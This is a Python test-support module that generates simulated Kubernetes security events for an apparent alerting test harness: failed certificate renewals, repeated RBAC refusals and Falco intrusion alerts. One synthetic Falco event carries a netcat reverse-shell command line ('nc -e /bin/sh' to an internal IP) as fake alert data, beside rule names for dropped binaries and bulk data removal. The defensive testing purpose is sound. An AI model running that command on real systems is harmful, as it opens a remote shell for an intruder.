"""Stories that security people look at: certificates, rights that are missing, and what Falco sees."""

from tests.support.week import bodies
from tests.support.week.cluster import Cluster
from tests.support.week.ordinary import audited
from tests.support.week.recorder import On
from tests.support.week.truth import HOUR, MINUTE
from tests.support.week.world import Process

_ALERTS = (
    ("Drop and execute new binary in container", "Critical", "high"),
    ("Netcat Remote Code Execution in Container", "Warning", "critical"),
    ("Remove Bulk Data from Disk", "Warning", "high"),
)


def certificate(cluster: Cluster) -> Process:
    """A certificate cannot be renewed; cert-manager tries again each hour, later each ten minutes, and succeeds."""
    workload = cluster.chance.choice(cluster.workloads)
    on = On("Certificate", workload.namespace, f"{workload.name}-tls-{cluster.word(3)}", cluster.world.uid())
    problem = cluster.truth.begin(
        cluster.world.now, f"{on.path}: cannot be renewed", [on.path], ("certificate",),
        severity="high", tell_within=30 * MINUTE, grace=40 * MINUTE,
    )  # fmt: skip
    by = cluster.by("cert-manager-certificates-issuing").event
    for _ in range(2 + cluster.chance.randrange(3)):
        text = "The certificate request has failed to complete and will be retried: acme: authorization failed"
        by(on, "Failed", text, warning=True)
        yield 20 * MINUTE
    by(on, "Issuing", "The certificate has been successfully issued")
    cluster.end(problem)
    yield 1


def denied(cluster: Cluster, number: int) -> Process:
    """A program's service account asks for what it may not do, again and again, until somebody gives it the right."""
    namespace = cluster.chance.choice(cluster.namespaces)
    user = f"system:serviceaccount:{namespace}:reporter-{number}"
    resource = cluster.chance.choice(("pods", "services", "configmaps"))
    kind = {"pods": "Pod", "services": "Service", "configmaps": "ConfigMap"}[resource]
    problem = cluster.truth.begin(
        cluster.world.now, f"{user} is refused {resource}",
        [f"{kind}/{namespace}", f"ServiceAccount/{namespace}/reporter-{number}"],
        (f"reporter-{number}",), tell_within=40 * MINUTE, grace=2 * HOUR,
    )  # fmt: skip
    text = f'{resource} is forbidden: User "{user}" cannot list resource "{resource}" in the namespace "{namespace}"'
    for _ in range(15 + cluster.chance.randrange(30)):
        cluster.world.observe(audited(cluster, namespace, resource, user, verb="list", refused=text))
        yield 60
    cluster.end(problem)


def mistake(cluster: Cluster) -> Process:
    """Somebody asks once for what he may not see: no ticket."""
    namespace = cluster.chance.choice(cluster.namespaces)
    text = f'secrets is forbidden: User "bob" cannot list resource "secrets" in the namespace "{namespace}"'
    problem = cluster.truth.begin(
        cluster.world.now, "bob is refused secrets, once", [f"Secret/{namespace}"], (), wanted="noise", grace=HOUR
    )
    cluster.world.observe(audited(cluster, namespace, "secrets", "bob", verb="list", refused=text))
    cluster.end(problem)
    yield 1


def alert(cluster: Cluster) -> Process:
    """Falco sees what an intruder does; nothing ever says that it is over."""
    workload = cluster.idle()
    if workload is None:
        return
    rule, priority, severity = cluster.chance.choice(_ALERTS)
    with cluster.story(workload):
        pod = cluster.chance.choice(workload.pods)
        problem = cluster.truth.begin(
            cluster.world.now, f"{pod.on.path}: {rule}", [pod.on.path, workload.on.path],
            (rule.lower(),), severity="critical" if severity == "critical" else "high",
            tell_within=5 * MINUTE, grace=200 * HOUR,
        )  # fmt: skip
        for _ in range(1 + cluster.chance.randrange(4)):
            at = bodies.seconds(cluster.world.now)
            fields = {
                "container.id": cluster.word(12), "evt.type": "execve", "k8s.ns.name": pod.namespace,
                "k8s.pod.name": pod.name, "proc.cmdline": "nc -e /bin/sh 10.9.8.7",
                "proc.pid": cluster.chance.randrange(9999),
            }  # fmt: skip
            data = {
                "uuid": cluster.world.uid(), "output": f"{rule} (pod={pod.name})", "priority": priority, "rule": rule,
                "time": at, "output_fields": fields, "source": "syscall", "tags": ["container"], "hostname": pod.host,
            }  # fmt: skip
            cluster.world.post("falco.rule.output.v1", "https://falco.org", data)
            yield 20
        cluster.end(problem)
